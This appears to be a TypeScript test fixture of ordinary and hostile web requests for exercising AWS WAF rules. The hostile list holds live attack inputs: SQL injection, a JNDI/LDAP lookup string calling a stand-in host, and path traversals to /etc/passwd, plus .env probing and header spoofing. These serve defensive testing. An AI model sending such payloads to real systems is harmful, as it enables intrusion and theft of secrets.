/** A request as AWS WAF sees it. */
export interface WebRequest {
  /** As a message says it: `POST /login`. */
  readonly words: string;
  readonly address: string;
  /** Two letters, ISO 3166. */
  readonly country: string;
  readonly method: string;
  /** As it is sent, perhaps encoded; without the query. */
  readonly path: string;
  readonly query: string;
  /** By name in lower case. */
  readonly headers: Readonly<Record<string, string>>;
  /** Bytes. */
  readonly bodySize: number;
}

const BROWSER =
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Safari/605.1.15";

/** An ordinary request, or what a change makes of it. */
export function requestOf(change: Partial<Omit<WebRequest, "words">>): WebRequest {
  const { method = "GET", path = "/", query = "" } = change;
  return {
    words: `${method} ${path}${query === "" ? "" : `?${query}`}`,
    address: "9.9.9.9",
    country: "JP",
    method,
    path,
    query,
    bodySize: 0,
    ...change,
    headers: { host: "www.example.com", "user-agent": BROWSER, ...change.headers },
  };
}

const form = { "content-type": "application/x-www-form-urlencoded" };
const json = { "content-type": "application/json" };

/** What people, their programs and partners ask: of every method, place, agent, size and kind of path. */
export const ordinary: readonly WebRequest[] = [
  requestOf({}),
  requestOf({ path: "/products/42", query: "page=2&sort=price", country: "US", address: "198.18.0.7" }),
  requestOf({
    path: "/about/",
    country: "DE",
    address: "2001:db8::7",
    headers: { referer: "https://search.example/" },
  }),
  requestOf({ path: "/favicon.ico", country: "BR", headers: { "user-agent": "Mozilla/5.0 (Android 17; Mobile)" } }),
  requestOf({ path: "/robots.txt", country: "US", headers: { "user-agent": "Googlebot/2.1" } }),
  requestOf({ method: "POST", path: "/login", headers: form, bodySize: 64 }),
  requestOf({
    method: "POST",
    path: "/api/v1/orders",
    headers: { ...json, authorization: "Bearer x" },
    bodySize: 4_000,
  }),
  requestOf({ method: "PUT", path: "/api/v1/orders/1", headers: json, bodySize: 20_000, country: "IN" }),
  requestOf({ method: "PATCH", path: "/api/v1/me", headers: json, bodySize: 100, country: "AU" }),
  requestOf({ method: "DELETE", path: "/api/v1/orders/1", country: "ZA" }),
  requestOf({ method: "HEAD", path: "/health", headers: { "user-agent": "curl/9.1" }, address: "223.255.0.1" }),
  requestOf({ method: "OPTIONS", path: "/api/v1/orders", country: "FR", address: "192.0.2.77" }),
  requestOf({ path: "/search", query: `q=${"word+".repeat(60)}`, country: "CN", address: "128.0.0.7" }),
];

/** What attackers ask, and how they ask for it past a rule: by encoded paths, dots, odd methods and agents, large bodies. */
export const hostile: readonly WebRequest[] = [
  requestOf({ path: "/search", query: "q=1'%20OR%20'1'='1", country: "RU", address: "203.0.114.9" }),
  requestOf({ path: "/", headers: { "user-agent": "${jndi:ldap://x.example/a}" }, country: "NL" }),
  requestOf({ path: "/", headers: { "user-agent": "" } }),
  requestOf({ path: "/.env", country: "US" }),
  requestOf({ path: "/wp-login.php", method: "POST", headers: form, bodySize: 90, country: "KP" }),
  requestOf({ path: "/admin", headers: { cookie: "session=x", "x-forwarded-for": "127.0.0.1" } }),
  requestOf({ path: "/%61dmin/%2e%2e/etc/passwd" }),
  requestOf({ path: "/a/../../etc/passwd" }),
  requestOf({ method: "PROPFIND", path: "/" }),
  requestOf({ method: "POST", path: "/api/v1/orders", headers: json, bodySize: 5_000_000, country: "IR" }),
  requestOf({ method: "POST", path: "/graphql", headers: json, bodySize: 9_000, address: "2a00::1", country: "SE" }),
];
